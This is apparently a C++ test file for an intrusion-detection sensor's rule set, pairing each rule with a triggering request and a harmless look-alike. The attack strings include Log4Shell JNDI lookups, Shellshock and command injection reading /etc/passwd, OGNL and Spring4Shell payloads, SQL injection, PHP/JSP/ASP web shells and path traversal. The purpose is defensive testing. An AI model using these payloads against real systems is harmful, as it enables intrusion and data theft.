// Every rule that we ship: a message that fires it and a like one that must not.
#include <catch2/catch.hpp>

#include <filesystem>

#include "sensor/engine/test_conversation.hpp"

using namespace menshen;
using namespace menshen::sensor;
using namespace menshen::sensor::testing;

namespace {

std::shared_ptr<const RuleSet> own_rules() {
  static const auto rules = [] {
    RuleSetBuilder builder;
    const auto root = std::filesystem::path(MENSHEN_SOURCE_DIR);
    REQUIRE(builder.add_file(root / "rules/detection/menshen.rules"));
    auto built = std::move(builder).build();
    REQUIRE(built);
    return std::make_shared<const RuleSet>(std::move(*built));
  }();
  return rules;
}

struct Outcome {
  std::multiset<std::uint32_t> alerts;
  bool dropped = false;
};

Outcome exchange(const std::string& request, const std::string& response = {},
                 std::uint16_t port = 80) {
  EventList events;
  Engine engine({.inline_mode = true}, own_rules(), nullptr, events);
  Conversation conversation(engine, port);
  Outcome outcome;
  outcome.dropped = conversation.client(request) != Verdict::accept;
  if (!outcome.dropped && !response.empty())
    outcome.dropped = conversation.server(response) != Verdict::accept;
  engine.flush();
  outcome.alerts = events.alerts();
  return outcome;
}

std::string get(const std::string& target, const std::string& headers = "") {
  return "GET " + target + " HTTP/1.1\r\nHost: portal.example\r\n" + headers + "\r\n";
}

std::string post(const std::string& body,
                 const std::string& type = "application/x-www-form-urlencoded") {
  return "POST /app/form HTTP/1.1\r\nHost: portal.example\r\nContent-Type: " + type +
         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

std::string form_file(const std::string& name, const std::string& content) {
  return post("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + name +
                  "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content +
                  "\r\n--b--\r\n",
              "multipart/form-data; boundary=b");
}

std::string ok(const std::string& body) {
  return "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: " +
         std::to_string(body.size()) + "\r\n\r\n" + body;
}

struct Case {
  std::uint32_t sid;
  std::string attack;
  std::string harmless;
};

const std::vector<Case>& requests() {
  static const std::vector<Case> cases = {
      {9000001, get("/", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}\r\n"),
       get("/", "X-Note: jndi: ${name}\r\n")},
      {9000002, get("/?q=$%7Bjndi:ldap://203.0.113.9/a%7D"), get("/doc/jndi:overview")},
      {9000003, post("user=${jndi:rmi://203.0.113.9/a}"), post("text=about+jndi%3A")},
      {9000004, get("/", "User-Agent: ${${lower:j}ndi:ldap://203.0.113.9/a}\r\n"),
       get("/", "X-T: ${a} ${b}\r\n")},
      {9000005, get("/cgi-bin/status", "User-Agent: () { :;}; /bin/cat /etc/passwd\r\n"),
       get("/", "User-Agent: Mozilla/5.0 (X11) {a}\r\n")},
      {9000006,
       get("/", "Content-Type: %{(#_='multipart/form-data').(@ognl.OgnlContext@DEFAULT)}\r\n"),
       get("/", "Content-Type: text/plain; note=ognl\r\n")},
      {9000007, get("/$%7B@java.lang.Runtime@getRuntime().exec(%22id%22)%7D/"),
       get("/api/java.lang.String")},
      {9000008, post("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
       post("class.module=classLoader")},
      {9000009, get("/?class.module.classLoader.DefaultAssertionStatus=1"),
       get("/?class.name=module")},
      {9000010, get("/ping?host=127.0.0.1;cat%20/etc/passwd"), get("/search?q=cat;dog")},
      {9000011, get("/?page=%3C?php%20phpinfo();?%3E"), get("/?page=php")},
      {9000020, get("/item?id=1%20union%20all%20select%20user,pass%20from%20users"),
       get("/news/student-union-selects-new-board")},
      {9000021, post("id=1'+union+select+1,2"), post("text=the+union+will+select+a+delegate")},
      {9000022, get("/login?user=admin'%20or%20'1'='1"), get("/search?q=rock'n'roll%20or%20jazz")},
      {9000023, get("/item?id=1%20and%20sleep(5)"), get("/shop?q=sleeping+bag")},
      {9000024, get("/item?id=1;%20drop%20table%20users"), get("/help?q=drop+table+in+a+form")},
      {9000030, form_file("a.jpg", "<?php @eval($_POST['x']); ?>"),
       form_file("a.txt", "<?php echo 'hello'; ?>")},
      {9000031, form_file("a.txt", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
       form_file("a.txt", "<%= request.getParameter(\"c\") %>")},
      {9000032, form_file("a.txt", "<%eval request(\"c\")%>"),
       form_file("a.txt", "<% Response.Write(\"x\") %>")},
      {9000033, form_file("shell.php", "x"), form_file("photo.jpeg", "x")},
      {9000034, get("/download?file=../../../../etc/passwd"), get("/docs/../index.html")},
      {9000040, get("/", "User-Agent: sqlmap/1.7 (https://sqlmap.org)\r\n"),
       get("/", "User-Agent: my sqlmap\r\n")},
      {9000041, get("/", "User-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n"), get("/nikto/")},
      {9000042, get("/", "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n"),
       get("/", "User-Agent: Nmap book reader\r\n")},
      {9000060, get("/", "Authorization: Basic dXNlcjpwYXNz\r\n"),
       get("/", "Authorization: Bearer abc\r\n")},
  };
  return cases;
}

const RuleInfo& info_of(std::uint32_t sid) {
  static const auto all = own_rules()->rules();
  const auto found =
      std::find_if(all.begin(), all.end(), [&](const RuleInfo* info) { return info->sid == sid; });
  REQUIRE(found != all.end());
  return **found;
}

void check_pair(std::uint32_t sid, const Outcome& bad, const Outcome& good) {
  INFO("sid " << sid);
  CHECK(bad.alerts.count(sid) == 1);
  CHECK(bad.dropped == (info_of(sid).action == RuleAction::drop));
  CHECK(good.alerts.count(sid) == 0);
  CHECK_FALSE(good.dropped);
}

const std::string eicar =
    std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-") + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

}  // namespace

TEST_CASE("our rules load without a single refusal") {
  const auto rules = own_rules();
  for (const auto& diagnostics : rules->diagnostics()) CHECK(diagnostics.render(Lang::en).empty());
  CHECK(rules->summary().rejected == 0);
}

TEST_CASE("our rules on HTTP requests") {
  for (const Case& one : requests())
    check_pair(one.sid, exchange(one.attack), exchange(one.harmless));
}

TEST_CASE("our rules on HTTP responses") {
  check_pair(9000035, exchange(get("/eicar.com"), ok(eicar)),
             exchange(get("/a.txt"), ok("EICAR is a test file")));
}

TEST_CASE("our rules on DNS") {
  const auto query = [](const std::string& name) {
    EventList events;
    Engine engine({.inline_mode = true}, own_rules(), nullptr, events);
    Outcome outcome;
    outcome.dropped = send_datagram(engine, dns_query(name), 53, 1) != Verdict::accept;
    engine.flush();
    outcome.alerts = events.alerts();
    return outcome;
  };
  const std::string label(55, 'a');
  check_pair(9000050, query("7" + label + ".t.example"), query("static-content.cdn.example"));
  const std::string part(40, 'b');
  check_pair(9000051, query(part + "." + part + "." + part + ".t.example"),
             query(part + ".example"));
  check_pair(9000052, query("dnscat.0102.example"), query("www.dnscat.example"));
}

TEST_CASE("our rules on TLS") {
  check_pair(9000061, exchange(tls_client_hello("x.ngrok.io"), "", 443),
             exchange(tls_client_hello("ngrok.io.example"), "", 443));
  check_pair(9000062, exchange(tls_client_hello("a.example"), tls_server_hello(0x0301), 443),
             exchange(tls_client_hello("a.example"), tls_server_hello(0x0303), 443));
}

TEST_CASE("every rule that we ship has a test here") {
  std::set<std::uint32_t> tested = {9000035, 9000050, 9000051, 9000052, 9000061, 9000062};
  for (const Case& one : requests()) tested.insert(one.sid);
  for (const RuleInfo* info : own_rules()->rules()) CHECK(tested.count(info->sid) == 1);
}
